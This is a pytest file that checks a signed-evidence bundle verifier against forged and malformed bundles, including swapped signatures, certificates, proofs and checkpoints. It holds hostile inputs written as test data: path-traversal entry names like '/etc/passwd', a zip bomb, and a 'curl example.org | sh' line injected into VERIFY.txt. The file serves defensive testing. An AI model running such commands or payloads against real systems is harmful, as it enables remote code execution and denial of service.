"""Attacks on bundles of evidence: each is refused, or nothing comes of it but the same facts."""

from __future__ import annotations

import dataclasses
import io
import struct
import zipfile
from collections.abc import Callable, Iterator
from typing import Final

import pytest
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature

from adapters.evidence_report import EvidenceReport, Gravity, Step, VerdictCode
from adapters.plain_zip import write_plain_zip
from adapters.trust_files import Trust
from cli.verify import StationHistory
from domain.checkpoints import CheckpointPair
from domain.header import SignatureValue, SignedEvent
from domain.ids import sha256
from domain.notes import Note, SignatureLine
from domain.reasons import Reason
from domain.signatures import ED25519, P256_ORDER, pae
from schemas.codec import LedgerCodec
from tests.audited_exchange import WITNESSES
from tests.bundled_evidence import Evidence, Forger, bundle_of, changed, evidence_exchange, facts, files_in
from tests.checkpoint_keys import SeededOperator

RECEIPT: Final = "acknowledged"
CODEC: Final = LedgerCodec()


@pytest.fixture(scope="module")
def evidence(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Evidence]:
    with evidence_exchange(tmp_path_factory.mktemp("evidence")) as made:
        yield made


@pytest.fixture(scope="module")
def receipt(evidence: Evidence) -> bytes:
    return evidence.event(RECEIPT)


@pytest.fixture(scope="module")
def circular(evidence: Evidence) -> bytes:
    return evidence.letter("circular", "mfy-001")


def steps(report: EvidenceReport, gravity: Gravity = Gravity.WRONG) -> set[Step]:
    """Return the steps at which something was found."""
    return {one.step for one in report.findings if one.gravity is gravity}


def require_invalid(report: EvidenceReport, *at: Step) -> None:
    assert report.verdict.code is VerdictCode.INVALID, report
    assert set(at) <= steps(report), report.findings


def require_unverifiable(report: EvidenceReport, what: str) -> None:
    assert report.verdict.code is VerdictCode.UNVERIFIABLE, report
    assert what in report.verdict.detail


def resigned(record: bytes, change: Callable[[SignedEvent], SignedEvent]) -> bytes:
    """Return a record with its envelope changed."""
    return CODEC.encode_envelope(change(CODEC.envelope(record)))


@pytest.mark.parametrize(
    "name",
    [
        "extra.txt",
        "../VERIFY.txt",
        "/etc/passwd",
        "events/1/record.bin",
        "enrolment/00/record.bin",
        "enrolment/17/../0/record.bin",
        "enrolment/17/extra",
        "documents/AB",
        "documents/" + "AB" * 32,
        "documents\\" + "ab" * 32,
        "VERIFY.TXT",
        "record.bin/",
        "consistency/other.path",
    ],
)
def test_an_extra_file_or_a_path_trick_is_refused(evidence: Evidence, receipt: bytes, name: str) -> None:
    require_invalid(evidence.verify(bundle_of({**files_in(receipt), name: b"x"})), Step.PARSING)


def test_an_extra_document_that_nothing_names_is_refused(evidence: Evidence, receipt: bytes) -> None:
    extra = {f"documents/{sha256(b'x').hex()}": b"x"}
    require_invalid(evidence.verify(bundle_of({**files_in(receipt), **extra})), Step.PARSING)


def test_two_entries_of_one_name_are_refused(evidence: Evidence, receipt: bytes) -> None:
    files = [*files_in(receipt).items(), ("record.bin", b"another")]
    target = io.BytesIO()
    write_plain_zip(target, ((name, io.BytesIO(content)) for name, content in files))
    require_invalid(evidence.verify(target.getvalue()), Step.PARSING)


def test_a_zip_bomb_is_refused_before_it_unfolds(evidence: Evidence) -> None:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("record.bin", bytes(64 * 1024 * 1024))
    require_invalid(evidence.verify(target.getvalue()), Step.PARSING)


def test_an_entry_that_claims_four_gigabytes_is_refused(evidence: Evidence, receipt: bytes) -> None:
    claimed = bytearray(receipt)
    struct.pack_into("<II", claimed, 18, 0xFFFFFFFE, 0xFFFFFFFE)
    require_invalid(evidence.verify(bytes(claimed)), Step.PARSING)


@pytest.mark.parametrize(
    "raw", [b"", b"PK\x05\x06" + bytes(18), b"%PDF-1.7", b"{}"], ids=["nothing", "no entry", "a pdf", "json"]
)
def test_what_is_no_bundle_is_never_valid(evidence: Evidence, raw: bytes) -> None:
    assert evidence.verify(raw).verdict.code in {VerdictCode.INVALID, VerdictCode.UNVERIFIABLE}


def test_a_bundle_with_anything_missing_is_never_valid(evidence: Evidence, receipt: bytes) -> None:
    for bundle in (evidence.letter("replaced"), receipt, evidence.event("answered")):
        files, whole = files_in(bundle), evidence.verify(bundle)
        for name in files:
            report = evidence.verify(bundle_of({other: content for other, content in files.items() if other != name}))
            assert report.verdict.code in {VerdictCode.INVALID, VerdictCode.UNVERIFIABLE}, name
            if name.startswith("documents/"):
                assert report.verdict.detail == "document destroyed or absent"
                assert [one.facts.identity for one in report.events] == [one.facts.identity for one in whole.events]


def test_a_swapped_document_is_refused(evidence: Evidence) -> None:
    bundle = evidence.event("answered")
    name = next(name for name in files_in(bundle) if name.startswith("documents/"))
    require_invalid(evidence.verify(changed(bundle, name, lambda content: content + b" ")), Step.DOCUMENTS)
    require_invalid(evidence.verify(changed(bundle, name, lambda content: bytes(len(content)))), Step.DOCUMENTS)


def test_a_swapped_schema_is_refused(evidence: Evidence, receipt: bytes) -> None:
    def as_refusal(event: SignedEvent) -> SignedEvent:
        return dataclasses.replace(event, payload_type=event.payload_type.replace("acknowledged", "refused"))

    files = files_in(receipt)
    record = resigned(files["record.bin"], as_refusal)
    require_invalid(evidence.verify(bundle_of({**files, "record.bin": record})), Step.PARSING)


def test_a_swapped_algorithm_is_refused(evidence: Evidence, receipt: bytes) -> None:
    def as_edwards(event: SignedEvent) -> SignedEvent:
        (value,) = event.signatures
        return dataclasses.replace(event, signatures=(SignatureValue(algorithm=ED25519, signature=value.signature),))

    forged = changed(receipt, "record.bin", lambda record: resigned(record, as_edwards))
    require_invalid(evidence.verify(forged), Step.SIGNATURES, Step.LOGS)


def test_a_malleated_signature_is_not_the_one_on_the_ledger(evidence: Evidence, receipt: bytes) -> None:
    def other_half(signature: bytes) -> bytes:
        r, s = decode_dss_signature(signature)
        return encode_dss_signature(r, P256_ORDER - s)

    def malleated(event: SignedEvent) -> SignedEvent:
        (value,) = event.signatures
        return dataclasses.replace(event, signatures=(dataclasses.replace(value, signature=other_half(value.signature)),))

    files = files_in(receipt)
    both = {**files, "record.bin": resigned(files["record.bin"], malleated), "event.sig": other_half(files["event.sig"])}
    report = evidence.verify(bundle_of(both))
    require_invalid(report, Step.LOGS)
    # The signature itself is as good as the other one: it verifies, and says nothing else.
    assert Step.SIGNATURES not in steps(report)
    assert report.events[0].facts.identity == evidence.verify(receipt).events[0].facts.identity
    require_invalid(evidence.verify(bundle_of({**files, "event.sig": other_half(files["event.sig"])})), Step.SIGNATURES)


def test_a_signature_of_another_key_is_refused(evidence: Evidence, receipt: bytes) -> None:
    thief = evidence.audited.eventful.exchange.signer("clerk-mfy-002").signer

    def signed_by_thief(event: SignedEvent) -> SignedEvent:
        value = SignatureValue(algorithm=thief.algorithm, signature=thief.sign(pae(event.payload_type, event.payload)))
        return dataclasses.replace(event, signatures=(value,))

    forged = changed(receipt, "record.bin", lambda record: resigned(record, signed_by_thief))
    require_invalid(evidence.verify(forged), Step.SIGNATURES, Step.LOGS)


@pytest.mark.parametrize("name", ["signer.der", "issuer.der", "enrolment/17/signer.der", "enrolment/0/issuer.der"])
def test_a_swapped_certificate_is_refused(evidence: Evidence, receipt: bytes, name: str) -> None:
    files = files_in(receipt)
    other = files["enrolment/0/signer.der" if "issuer" not in name else "enrolment/17/signer.der"]
    report = evidence.verify(bundle_of({**files, name: other}))
    require_invalid(report)
    assert steps(report) & {Step.SIGNATURES, Step.CERTIFICATES}


def test_an_enrolment_of_somebody_else_vouches_for_nobody(evidence: Evidence, receipt: bytes) -> None:
    other = {name: content for name, content in files_in(evidence.event("reply acknowledged")).items() if "enrolment/1" in name}
    files = {name: content for name, content in files_in(receipt).items() if not name.startswith("enrolment/17/")}
    report = evidence.verify(bundle_of({**files, **other}))
    require_invalid(report, Step.PARSING)
    assert Step.SIGNATURES in steps(report, Gravity.MISSING)


def test_a_certificate_of_an_authority_that_the_trust_file_does_not_name_is_refused(evidence: Evidence, receipt: bytes) -> None:
    require_invalid(evidence.verify(receipt, trust=dataclasses.replace(evidence.trust, anchors=())), Step.CERTIFICATES)


def test_an_authority_withdrawn_before_the_enrolment_is_refused_and_later_it_is_not(evidence: Evidence, receipt: bytes) -> None:
    def withdrawn(at_ms: int) -> Trust:
        anchors = tuple(dataclasses.replace(one, withdrawn_at_ms=at_ms) for one in evidence.trust.anchors)
        return dataclasses.replace(evidence.trust, anchors=anchors)

    enrolled_at = evidence.audited.eventful.station.parts.store.verdict(17)
    assert enrolled_at is not None
    require_invalid(evidence.verify(receipt, trust=withdrawn(enrolled_at.at - 1)), Step.CERTIFICATES)
    assert evidence.verify(receipt, trust=withdrawn(enrolled_at.at)).verdict.code is VerdictCode.VALID


@pytest.mark.parametrize("name", ["record.proof", "verdict.proof"])
def test_a_moved_proof_is_refused(evidence: Evidence, receipt: bytes, name: str) -> None:
    other = files_in(evidence.event("opened"))[name]
    require_invalid(evidence.verify(bundle_of({**files_in(receipt), name: other})), Step.LOGS)


def test_a_moved_verdict_is_refused(evidence: Evidence, receipt: bytes) -> None:
    other = files_in(evidence.event("opened"))
    moved = {name: other[name] for name in ("verdict.bin", "verdict.proof")}
    require_invalid(evidence.verify(bundle_of({**files_in(receipt), **moved})), Step.LOGS)


def test_events_that_change_places_are_refused(evidence: Evidence, circular: bytes) -> None:
    files = files_in(circular)
    first, second = sorted({name.split("/")[1] for name in files if name.startswith("events/")})[:2]
    places = {f"events/{first}": f"events/{second}", f"events/{second}": f"events/{first}"}
    swapped = {}
    for name, content in files.items():
        folder, _, file = name.rpartition("/")
        swapped[f"{places.get(folder, folder)}/{file}".lstrip("/")] = content
    require_invalid(evidence.verify(bundle_of(swapped)), Step.LOGS)


def test_a_proof_of_another_size_is_refused(evidence: Evidence, receipt: bytes) -> None:
    older = files_in(evidence.event(RECEIPT, pair=evidence.audited.pair(evidence.audited.end - 3)))
    for name in ("record.proof", "verdict.proof"):
        require_invalid(evidence.verify(bundle_of({**files_in(receipt), name: older[name]})), Step.LOGS)
    size = str(evidence.audited.end).encode()
    resized = changed(receipt, "record.proof", lambda proof: proof.replace(b"\n" + size + b"\n", b"\n1000\n"))
    require_invalid(evidence.verify(resized), Step.LOGS)


def test_an_event_of_another_letter_does_not_belong_to_the_bundle(evidence: Evidence, circular: bytes) -> None:
    position = evidence.audited.eventful.position(RECEIPT)
    single = files_in(evidence.event(RECEIPT))
    foreign = {
        f"events/{position}/{name}": content for name, content in single.items() if "/" not in name and name[-4:] != ".der"
    }
    foreign.pop(f"events/{position}/VERIFY.txt")
    require_invalid(evidence.verify(bundle_of({**files_in(circular), **foreign})), Step.PARSING)


def test_without_the_group_nobody_is_shown_to_be_addressed(evidence: Evidence, circular: bytes) -> None:
    group = evidence.audited.eventful.position("group")
    files = {name: content for name, content in files_in(circular).items() if not name.startswith(f"events/{group}/")}
    require_invalid(evidence.verify(bundle_of(files)), Step.PARSING)
    report = evidence.verify(bundle_of(files))
    assert any("mfy-001 was addressed" in one.what for one in report.findings)


def test_a_replay_on_another_ledger_of_the_same_name_is_refused(evidence: Evidence, receipt: bytes) -> None:
    elsewhere = dataclasses.replace(evidence.trust, identity=sha256(b"another ledger of the same name"))
    require_invalid(evidence.verify(receipt, trust=elsewhere), Step.SIGNATURES, Step.LOGS)


def test_a_text_with_another_command_is_refused(evidence: Evidence, receipt: bytes) -> None:
    evil = changed(receipt, "VERIFY.txt", lambda text: text.replace(b"    same() {", b"    curl example.org | sh\n    same() {"))
    require_invalid(evidence.verify(evil), Step.PARSING)


def test_a_rejected_letter_is_never_valid(evidence: Evidence) -> None:
    for name, reason in (("clerk sends", Reason.ROLE_MISSING), ("after the theft", Reason.KEY_REVOKED)):
        bundle = evidence.event(name)
        report = evidence.verify(bundle)
        assert (report.verdict.code, report.verdict.detail) == (VerdictCode.REJECTED, reason.name)
        accepted = changed(bundle, "verdict.bin", lambda leaf: leaf[:81] + bytes(2) + leaf[83:])
        require_invalid(evidence.verify(accepted), Step.LOGS)


def test_a_stolen_checkpoint_key_makes_no_rejected_letter_valid_without_witnesses(evidence: Evidence) -> None:
    bundle, position = evidence.event("clerk sends"), evidence.audited.eventful.position("clerk sends")
    leaf = files_in(bundle)["verdict.bin"]
    accepted = {position: leaf[:81] + bytes(2) + leaf[83:]}
    for helpers in (WITNESSES[:0], WITNESSES[:1]):
        report = evidence.verify(Forger(evidence, accepted, witnesses=helpers).forged(bundle))
        require_unverifiable(report, f"{len(helpers)} of 3 witnesses")
    # Operator and witnesses together can lie to whoever has a bundle only; the ledger itself tells.
    forged = Forger(evidence, accepted).forged(bundle)
    assert evidence.verify(forged).verdict.code is VerdictCode.VALID
    require_invalid(evidence.verify(forged, later=StationHistory(station=evidence.audited.eventful.station)), Step.HISTORY)
    held = evidence.audited.pair(evidence.audited.end)
    require_invalid(evidence.verify(forged, held=held), Step.HISTORY)


def test_a_checkpoint_of_a_key_that_the_trust_file_does_not_name_proves_nothing(evidence: Evidence) -> None:
    stranger = evidence.event(RECEIPT, pair=evidence.audited.pair(operator=SeededOperator(9)))
    require_unverifiable(evidence.verify(stranger), "a checkpoint key of the trust file")


def test_a_forger_of_elliptic_curves_who_leaves_out_the_ml_dsa_line_is_refused(evidence: Evidence) -> None:
    pair = evidence.audited.pair()

    def without(note: Note, place: int) -> Note:
        return Note(text=note.text, lines=note.lines[:place] + note.lines[place + 1 :])

    for place in (0, 1):
        forged = CheckpointPair(records=without(pair.records, place), verdicts=without(pair.verdicts, place))
        require_invalid(evidence.verify(evidence.event(RECEIPT, pair=forged)), Step.LOGS)
    one_side = CheckpointPair(records=pair.records, verdicts=without(pair.verdicts, 1))
    require_invalid(evidence.verify(evidence.event(RECEIPT, pair=one_side)), Step.LOGS)


def test_a_wrong_line_of_a_known_witness_is_refused_though_others_would_do(evidence: Evidence) -> None:
    pair = evidence.audited.pair()
    last = pair.records.lines[-1]
    broken = SignatureLine(name=last.name, key_id=last.key_id, signature=last.signature[:-1] + bytes([last.signature[-1] ^ 1]))
    forged = CheckpointPair(
        records=Note(text=pair.records.text, lines=(*pair.records.lines[:-1], broken)), verdicts=pair.verdicts
    )
    require_invalid(evidence.verify(evidence.event(RECEIPT, pair=forged)), Step.LOGS)


def test_a_line_of_a_stranger_changes_no_fact(evidence: Evidence, receipt: bytes) -> None:
    pair = evidence.audited.pair()
    stranger = SignatureLine(name="stranger.example", key_id=b"1234", signature=b"anything at all")
    noted = CheckpointPair(
        records=Note(text=pair.records.text, lines=(*pair.records.lines, stranger)),
        verdicts=Note(text=pair.verdicts.text, lines=(*pair.verdicts.lines, stranger)),
    )
    assert facts(evidence.verify(evidence.event(RECEIPT, pair=noted))) == facts(evidence.verify(receipt))


def test_witnesses_of_one_note_only_are_no_quorum(evidence: Evidence) -> None:
    whole, bare = evidence.audited.pair(), evidence.audited.pair(witnesses=())
    half = evidence.event(RECEIPT, pair=CheckpointPair(records=whole.records, verdicts=bare.verdicts))
    require_unverifiable(evidence.verify(half), "0 of 3 witnesses")


def test_a_witness_that_was_rolled_back_does_not_make_an_old_checkpoint_new(evidence: Evidence) -> None:
    newest = evidence.audited.pair()
    older = evidence.event(RECEIPT, pair=evidence.audited.pair(evidence.audited.end - 3))
    assert evidence.verify(older).verdict.code is VerdictCode.VALID
    require_unverifiable(evidence.verify(older, held=newest), f"size {newest.size}")
    # A history that was rolled back and went on otherwise has other roots where the verifier holds a checkpoint.
    other = evidence.audited.pair(roots=(sha256(b"other"), newest.roots[1]))
    require_invalid(evidence.verify(evidence.event(RECEIPT), held=other), Step.HISTORY)


def test_a_held_checkpoint_of_another_ledger_is_told(evidence: Evidence, receipt: bytes) -> None:
    pair = evidence.audited.pair()
    renamed = CheckpointPair(
        records=Note(text="x" + pair.records.text, lines=pair.records.lines),
        verdicts=Note(text="x" + pair.verdicts.text, lines=pair.verdicts.lines),
    )
    require_invalid(evidence.verify(receipt, held=renamed), Step.HISTORY)


def test_a_forged_path_from_an_older_checkpoint_is_refused(evidence: Evidence) -> None:
    held = evidence.audited.pair(20)
    bundle = evidence.event(RECEIPT, older_size=20)
    assert evidence.verify(bundle, held=held).verdict.code is VerdictCode.VALID
    other = evidence.audited.pair(20, roots=(held.roots[0], sha256(b"other")))
    require_invalid(evidence.verify(bundle, held=other), Step.HISTORY)
    for name in ("consistency/record.path", "consistency/verdict.path"):
        cut = changed(bundle, name, lambda path: path[: path.rindex(b"\n", 0, -1) + 1])
        require_invalid(evidence.verify(cut, held=held), Step.HISTORY)
        resized = changed(bundle, name, lambda path: path.replace(b"old 20\n", b"old 21\n"))
        require_invalid(evidence.verify(resized, held=held), Step.PARSING)
